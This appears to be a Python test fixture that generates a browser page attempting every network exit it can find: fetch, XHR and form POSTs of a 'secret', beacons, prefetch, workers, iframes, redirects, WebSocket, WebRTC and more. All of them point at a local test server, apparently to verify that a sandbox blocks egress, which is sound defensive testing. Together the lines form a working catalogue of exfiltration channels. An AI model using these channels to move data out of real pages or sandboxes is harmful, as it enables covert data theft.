"""A page that tries every way out of a browser.

Each way asks the site for `/way/<name>`, or connects to a port.
"""

# The page is one text, and its lines are those of a script.
# ruff: noqa: E501

from __future__ import annotations

import json

from listening_site import Site

# Seen by the site as a path.
HTTP_WAYS = (
    "image",
    "background",
    "stylesheet",
    "font",
    "script",
    "module",
    "video",
    "object",
    "iframe",
    "fetch-get",
    "fetch-post",
    "fetch-cross",
    "fetch-keepalive",
    "xhr-put",
    "form-frame",
    "form-popup",
    "popup",
    "ping",
    "beacon",
    "event-source",
    "prefetch",
    "preload",
    "modulepreload",
    "speculative-prefetch",
    "prerender",
    "worker-fetch",
    "worker-script",
    "shared-worker-fetch",
    "shared-worker-script",
    "data-frame",
    "srcdoc-frame",
    "blob-frame",
    "javascript-frame",
    "meta-refresh",
    "csp-report",
    "download",
    "image-redirect",
    "fetch-redirect",
    "post-redirect",
    "frame-redirect",
    "unload-beacon",
    "unload-keepalive",
)
# Seen by the bare port as a connection that begins so. (Preconnect is tried too; not every Chromium does it.)
TCP_WAYS = {"page socket": b"GET /page", "worker socket": b"GET /worker", "turn": b"\x00\x03"}
# Seen by the other bare port as a datagram: STUN.
UDP_WAYS = 1


def page(site: Site) -> str:
    """The page; `window.done` is true when everything was tried."""
    names = json.dumps(
        {
            "url": site.url,
            "other": site.other,
            "tcp": f"127.0.0.1:{site.tcp_port}",
            "second": f"127.0.0.1:{site.second_port}",
            "udp": f"127.0.0.1:{site.udp_port}",
        }
    )
    return (
        f"""<!doctype html><meta charset="utf-8"><title>ways out</title>
<link rel="icon" href="data:,">
<style>@font-face {{ font-family: f; src: url({site.url}/way/font) }} #b {{ font-family: f; background: url({site.url}/way/background) }}</style>
<p id="b">text</p><iframe name="target"></iframe>
<script>const at = {names};</script>"""
        + _SCRIPT
    )


_SCRIPT = """<script>
const way = name => at.url + '/way/' + name;
const redirect = name => at.url + '/redirect/' + name + '?to=' + encodeURIComponent(way(name));
const add = (tag, attributes, parent = document.body) => {
  const one = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value);
  parent.append(one);
  return one;
};
const quiet = attempt => Promise.resolve().then(attempt).catch(() => {});
const submit = (name, target) => {
  const form = add('form', {action: way(name), method: 'post', target});
  add('input', {name: 'secret', value: '1'}, form);
  form.submit();
};
const worker = text => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
const attempts = [
  () => add('img', {src: way('image')}),
  () => add('link', {rel: 'stylesheet', href: way('stylesheet')}),
  () => add('script', {src: way('script')}),
  () => add('script', {type: 'module', src: way('module')}),
  () => add('video', {src: way('video'), preload: 'auto'}),
  () => add('object', {data: way('object')}),
  () => add('iframe', {src: way('iframe')}),
  () => fetch(way('fetch-get')),
  () => fetch(way('fetch-post'), {method: 'POST', body: 'secret'}),
  () => fetch(at.other + '/way/fetch-cross', {method: 'PUT', headers: {'content-type': 'application/json'}, body: '{}'}),
  () => fetch(way('fetch-keepalive'), {method: 'POST', body: 'secret', keepalive: true}),
  () => { const x = new XMLHttpRequest(); x.open('PUT', way('xhr-put')); x.send('secret'); },
  () => submit('form-frame', 'target'),
  () => add('a', {ping: way('ping'), href: 'javascript:void 0'}).click(),
  () => navigator.sendBeacon(way('beacon'), 'secret'),
  () => new EventSource(way('event-source')),
  () => add('link', {rel: 'prefetch', href: way('prefetch')}, document.head),
  () => add('link', {rel: 'preload', as: 'image', href: way('preload')}, document.head),
  () => add('link', {rel: 'modulepreload', href: way('modulepreload')}, document.head),
  () => add('link', {rel: 'preconnect', href: 'http://' + at.second}, document.head),
  () => add('link', {rel: 'dns-prefetch', href: 'http://' + at.tcp}, document.head),
  () => {
    const one = document.createElement('script');
    one.type = 'speculationrules';
    one.textContent = JSON.stringify({
      prefetch: [{source: 'list', eagerness: 'immediate', urls: [way('speculative-prefetch')]}],
      prerender: [{source: 'list', eagerness: 'immediate', urls: [way('prerender')]}],
    });
    document.head.append(one);
  },
  () => new Worker(worker(`fetch('${way('worker-fetch')}', {method: 'POST', body: 'secret'}).catch(() => {});
    try { importScripts('${way('worker-script')}') } catch (e) {}
    new WebSocket('ws://${at.tcp}/worker')`)),
  () => new SharedWorker(worker(`fetch('${way('shared-worker-fetch')}', {method: 'POST', body: 'secret'}).catch(() => {});
    try { importScripts('${way('shared-worker-script')}') } catch (e) {}`)),
  () => add('iframe', {src: 'data:text/html,<img src="' + way('data-frame') + '">'}),
  () => add('iframe', {srcdoc: '<img src="' + way('srcdoc-frame') + '">'}),
  () => add('iframe', {src: URL.createObjectURL(new Blob(['<img src="' + way('blob-frame') + '">'], {type: 'text/html'}))}),
  () => add('iframe', {src: "javascript:'<img src=" + way('javascript-frame') + ">'"}),
  () => add('iframe', {srcdoc: '<meta http-equiv="refresh" content="0;url=' + way('meta-refresh') + '">'}),
  () => add('iframe', {srcdoc: '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'"><img src="x:y">'}),
  () => add('iframe', {src: at.url + '/csp'}),
  () => add('a', {href: way('download'), download: 'x'}).click(),
  () => new WebSocket('ws://' + at.tcp + '/page'),
  () => navigator.serviceWorker.register(way('service-worker')),
  () => add('img', {src: redirect('image-redirect')}),
  () => fetch(redirect('fetch-redirect')),
  () => fetch(redirect('post-redirect') + '&status=307', {method: 'POST', body: 'secret'}),
  () => add('iframe', {src: redirect('frame-redirect')}),
  () => new WebTransport('https://' + at.udp + '/transport').ready,
  async () => {
    const peer = new RTCPeerConnection({iceServers: [
      {urls: 'stun:' + at.udp},
      {urls: 'turn:' + at.tcp + '?transport=tcp', username: 'u', credential: 'c'},
    ]});
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  // Last: a page that has opened another may not prefetch by speculation rules.
  () => submit('form-popup', '_blank'),
  () => window.open(way('popup')),
];
addEventListener('pagehide', () => {
  navigator.sendBeacon(way('unload-beacon'), 'secret');
  quiet(() => fetch(way('unload-keepalive'), {method: 'POST', body: 'secret', keepalive: true}));
});
onload = async () => {
  for (const attempt of attempts) { quiet(attempt); await new Promise(r => setTimeout(r, 40)); }
  await new Promise(r => setTimeout(r, 2500));
  window.done = true;
};
</script>"""
